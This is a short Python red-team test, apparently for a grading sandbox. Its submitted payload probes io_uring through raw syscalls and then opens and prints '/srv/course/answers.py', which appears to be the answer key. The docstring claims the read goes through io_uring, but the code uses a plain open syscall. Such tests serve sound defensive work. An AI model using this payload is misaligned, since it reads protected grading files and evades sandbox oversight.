"""Files are read through io_uring, which system call filters do not see.

Success: a canary; most kernels and sandboxes refuse at once.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.first(
        SHOW
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parameters = (ctypes.c_uint32 * 30)()
ring = libc.syscall(425, 8, parameters)
print("io_uring:", "open" if ring >= 0 else "closed")
fd = libc.syscall(2, b"/srv/course/answers.py", 0)  # the oldest call for opening a file
if fd >= 0:
    store = ctypes.create_string_buffer(1 << 16)
    libc.read(fd, store, 1 << 16)
    show(store.raw)
"""
    )
